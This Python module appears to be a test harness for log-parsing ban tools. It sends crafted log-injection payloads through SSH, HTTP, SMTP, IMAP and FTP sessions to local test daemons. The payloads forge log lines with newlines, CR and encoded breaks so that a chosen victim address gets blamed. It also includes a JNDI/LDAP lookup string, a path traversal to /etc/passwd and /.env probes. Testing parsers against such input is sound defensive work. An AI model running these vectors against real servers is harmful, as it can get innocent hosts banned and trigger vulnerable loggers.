"""What an attacker writes into the logs of others: where (VECTORS) and what (PAYLOADS).

A vector is one act of an attacker against one daemon, with a text that he chooses. A payload makes that text from a
victim `v`, his own address `s` and the number of the act; `plain` is the same attack without any address.
"""

import base64
import logging
import socket
import struct
import urllib.parse

import forge_daemons as daemons
import innocents_words as words

logging.getLogger("paramiko").setLevel(logging.CRITICAL + 1)

PAYLOADS = {
    "address": lambda v, s, i: v,
    "from": lambda v, s, i: f"x from {v}",
    "from port": lambda v, s, i: f"x from {v} port 22",
    "from port ssh2": lambda v, s, i: f"root from {v} port 22 ssh2",
    "whole failure": lambda v, s, i: f"x from {v} port 22 ssh2\tFailed password for root from {v} port 22 ssh2",
    "preauth": lambda v, s, i: f"x {v} port 22 [preauth]",
    "user preauth": lambda v, s, i: f"authenticating user root {v} port 22 [preauth]",
    "not allowed": lambda v, s, i: f"x from {v} not allowed because not listed in AllowUsers",
    "key": lambda v, s, i: f"x from {v} port 22 ssh2: RSA SHA256:{v}",
    "identification": lambda v, s, i: f"x' from {v} port 22",
    "rhost": lambda v, s, i: f"x rhost={v}  user=root",
    "rhost semicolon": lambda v, s, i: f"x; logname= uid=0 euid=0 tty=ssh ruser= rhost={v}",
    "brackets": lambda v, s, i: f"unknown[{v}]",
    "sasl": lambda v, s, i: f"unknown[{v}]: SASL LOGIN authentication failed: x",
    "smtp reject": lambda v, s, i: f"x>: Relay access denied; from=<a@b> to=<c@d> RCPT from unknown[{v}]: 554 5.7.1 <x",
    "rip": lambda v, s, i: f"x>, method=PLAIN, rip={v}, lip=192.0.2.1, session=<x",
    "rip plain": lambda v, s, i: f"x rip={v}",
    "auth worker": lambda v, s, i: f"pam(x,{v}): unknown user",
    "ftp": lambda v, s, i: f'x] FAIL LOGIN: Client "::ffff:{v}"',
    "ftp open": lambda v, s, i: f'root] FAIL LOGIN: Client "{v}" [x',
    "ftp denied": lambda v, s, i: f'x] FTP response: Client "{v}", "530 Permission denied." [y',
    "access line": lambda v, s, i: f'{v} - - [24/Nov/2026:23:00:00 +0000] "GET /.env HTTP/1.1" 404 10 "-" "x"',
    "access quote": lambda v, s, i: f'x" 404 10 "-" "-"\n{v} - - [24/Nov/2026:23:00:00 +0000] "GET /.env HTTP/1.1" 404 10 "-" "x',
    "error client": lambda v, s, i: f'x": password mismatch, client: {v}, server: _, request: "GET / HTTP/1.1", host: "h',
    "error line": lambda v, s, i: f'x\n2026/11/24 23:00:0{i % 10} [error] 1#1: *1 user "u": password mismatch, client: {v}, server: _, '
                                  f'request: "GET / HTTP/1.1", host: "h"\n',
    "limit line": lambda v, s, i: f'x\n2026/11/24 23:00:0{i % 10} [error] 1#1: *1 limiting requests, excess: 5.5 by zone "z", client: {v}, '
                                  f'server: _, request: "GET / HTTP/1.1", host: "h"\n',
    "forbidden line": lambda v, s, i: f'x\n2026/11/24 23:00:0{i % 10} [error] 1#1: *1 access forbidden by rule, client: {v}, server: _, '
                                      f'request: "GET /.env HTTP/1.1", host: "h"\n',
    "syslog line": lambda v, s, i: f"x\nNov 24 23:00:00 forge sshd[1]: Failed password for root from {v} port 22 ssh2",
    "syslog line, CR": lambda v, s, i: f"x\r\nNov 24 23:00:00 forge sshd[1]: Invalid user root from {v} port 22\r\n",
    "written newline": lambda v, s, i: f"x\\nNov 24 23:00:00 forge sshd[1]: Failed password for root from {v} port 22 ssh2",
    "rsyslog newline": lambda v, s, i: f"x#012Nov 24 23:00:00 forge sshd[1]: Failed password for root from {v} port 22 ssh2",
    "quotes": lambda v, s, i: f"\"{v}\" '{v}'",
    "percent": lambda v, s, i: "x%20from%20" + v.replace(".", "%2e") + "%20port%2022 " + v,
    "utf-8": lambda v, s, i: f"ünï‮ from {v} port 22 ssh2",
    "two of them": lambda v, s, i: f"x from {v} port 22 ssh2 from {v} port 22 ssh2",
    "own address too": lambda v, s, i: f"x from {s} port 22 ssh2 from {v} port 22",
    "own address between": lambda v, s, i: f"x {v} port 22 from {s} port 22 ssh2 {v}",
    "many": lambda v, s, i: "x from " + " from ".join([v] * 3 + [f"203.0.113.{n}" for n in range(200, 220)]) + " port 22 ssh2",
    "forwarded": lambda v, s, i: f"{v}, {v}",
    "jndi": lambda v, s, i: "${jndi:ldap://" + v + ":1389/a}",
    "traversal": lambda v, s, i: f"../../../../etc/passwd?{v}",
    "address 6": lambda v, s, i: six(v),
    "from port 6": lambda v, s, i: f"x from {six(v)} port 22 ssh2",
    "preauth 6": lambda v, s, i: f"x {six(v)} port 22 [preauth]",
    "mapped": lambda v, s, i: f"x from ::ffff:{v} port 22",
    "brackets 6": lambda v, s, i: f"unknown[{six(v)}] [{six(v)}]:22",
    "zone": lambda v, s, i: f"x from fe80::1%eth0 from {six(v)}%eth0 port 22",
}
# What a server would pass on as it is: a line break ends a command of these protocols.
ONE_LINE = {"smtp helo", "smtp from", "smtp rcpt", "smtp command", "ftp user", "ssh version", "http referer", "http agent", "http method",
            "http host", "http forwarded", "http forwarded vhost"}


def six(v):
    """The victim's IPv6 counterpart."""
    a, b, c, d = map(int, v.split("."))
    return f"2001:db8:dead:{a:x}:{b:x}::{c * 256 + d:x}"


def connect(port, source):
    server = daemons.V6 if ":" in source else daemons.V4
    return socket.create_connection((server, port), timeout=10, source_address=(source, 0))


def say(sock, *parts):
    """Sends each part and waits for an answer to it."""
    answer = b""
    for part in parts:
        try:
            if part:
                sock.sendall(part if isinstance(part, bytes) else part.encode())
            answer = sock.recv(65536)
        except OSError:
            break
        if not answer:
            break
    return answer


# --- sshd

def ssh_packet(payload):
    pad = 8 - (len(payload) + 5) % 8
    pad += 8 if pad < 4 else 0
    return struct.pack(">IB", len(payload) + pad + 1, pad) + payload + bytes(pad)


def ssh_string(text):
    data = text if isinstance(text, bytes) else text.encode()
    return struct.pack(">I", len(data)) + data


def ssh_user(source, text, _, port=daemons.SSH):
    import paramiko
    with connect(port, source) as sock:
        transport = paramiko.Transport(sock)
        try:
            transport.start_client(timeout=10)
            transport.auth_password(text, "wrong", fallback=False)
        except (paramiko.SSHException, EOFError, OSError):
            pass
        finally:
            transport.close()


def ssh_user_pam(source, text, i):
    ssh_user(source, text, i, daemons.SSH_PAM)


def ssh_disconnect(source, text, _):
    with connect(daemons.SSH, source) as sock:
        say(sock, "SSH-2.0-x\r\n")
        say(sock, ssh_packet(b"\x01" + struct.pack(">I", 11) + ssh_string(text) + ssh_string("")))


def ssh_offer(source, text, _):
    with connect(daemons.SSH, source) as sock:
        say(sock, "SSH-2.0-x\r\n")
        lists = [text] + ["ssh-ed25519", "aes256-ctr", "aes256-ctr", "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""]
        say(sock, ssh_packet(b"\x14" + bytes(16) + b"".join(map(ssh_string, lists)) + b"\0" + bytes(4)))


def ssh_version(source, text, _):
    with connect(daemons.SSH, source) as sock:
        say(sock, "", text + "\r\n")


# --- nginx

def http(source, target, port=daemons.HTTP, verb="GET", host="forge", **headers):
    request = f"{verb} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    request += "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in headers.items()) + "\r\n"
    with connect(port, source) as sock:
        sock.sendall(request.encode())
        while sock.recv(65536):
            pass


def missing(i):
    """What scanners ask for first; none of it is there."""
    return words.PROBES[i % len(words.PROBES)].split("?")[0]


def encoded(text):
    return urllib.parse.quote(text, safe="/:[]=,;.{}$-")


def basic(text):
    return "Basic " + base64.b64encode((text.replace(":", ";") if ":" in text else text).encode() + b":wrong").decode()


VECTORS = {
    "ssh user": (ssh_user, "syslog", 12),
    "ssh user, PAM": (ssh_user_pam, "syslog", 6),
    "ssh disconnect": (ssh_disconnect, "syslog", 12),
    "ssh offer": (ssh_offer, "syslog", 12),
    "ssh version": (ssh_version, "syslog", 12),
    "http path": (lambda s, t, i: http(s, f"{missing(i)}/{encoded(t)}"), "access", 18),
    "http query": (lambda s, t, i: http(s, f"{missing(i)}?q={encoded(t)}"), "access", 18),
    "http referer": (lambda s, t, i: http(s, missing(i), Referer=t), "access", 18),
    "http agent": (lambda s, t, i: http(s, missing(i), User_Agent=t), "access", 18),
    "http user": (lambda s, t, i: http(s, "/private/", Authorization=basic(t)), "access", 18),
    "http method": (lambda s, t, i: http(s, missing(i), verb=t), "access", 18),
    "http host": (lambda s, t, i: http(s, missing(i), daemons.HTTP_VHOST, host=t), "access-vhost", 18),
    "http forwarded": (lambda s, t, i: http(s, missing(i), X_Forwarded_For=t, X_Real_IP=t), "access", 18),
    "http forwarded vhost": (lambda s, t, i: http(s, missing(i), daemons.HTTP_VHOST, X_Forwarded_For=t, Forwarded="for=" + t), "access-vhost", 18),
    "http denied": (lambda s, t, i: http(s, f"/denied/{i}/{encoded(t)}"), "access", 18),
    "http limited": (lambda s, t, i: http(s, f"/limited/{i}/{encoded(t)}"), "access", 18),
}


# --- mail, ftp

def smtp(source, *parts):
    with connect(daemons.SMTP, source) as sock:
        say(sock, "", *(part + "\r\n" for part in parts), "QUIT\r\n")


def smtp_sasl(source, text, i):
    secret = base64.b64encode(b"\0" + text.encode() + b"\0wrong").decode()
    smtp(source, "EHLO client.example.net", "AUTH PLAIN " + secret)


def imap_user(source, text, _):
    user = text.encode()
    with connect(daemons.IMAP, source) as sock:
        say(sock, "", b"a LOGIN {%d+}\r\n%s {5+}\r\nwrong\r\n" % (len(user), user), "b LOGOUT\r\n")


def ftp_user(source, text, _):
    with connect(daemons.FTP, source) as sock:
        say(sock, "", f"USER {text}\r\n", "PASS wrong\r\n", "QUIT\r\n")


VECTORS.update({
    "smtp helo": (lambda s, t, i: smtp(s, f"EHLO {t}", "MAIL FROM:<a@example.net>", "RCPT TO:<known@example.org>"), "syslog", 14),
    "smtp from": (lambda s, t, i: smtp(s, "EHLO client.example.net", f'MAIL FROM:<"{escaped(t)}"@example.net>', "RCPT TO:<nobody@example.org>"), "syslog", 14),
    "smtp rcpt": (lambda s, t, i: smtp(s, "EHLO client.example.net", "MAIL FROM:<a@example.net>", f'RCPT TO:<"{escaped(t)}"@example.net>'), "syslog", 14),
    "smtp command": (lambda s, t, i: smtp(s, f"GET {t}"), "syslog", 14),
    "smtp sasl": (smtp_sasl, "syslog", 14),
    "imap user": (imap_user, "syslog", 14),
    "ftp user": (ftp_user, "vsftpd", 14),
})


def escaped(text):
    return text.replace("\\", "\\\\").replace('"', '\\"')
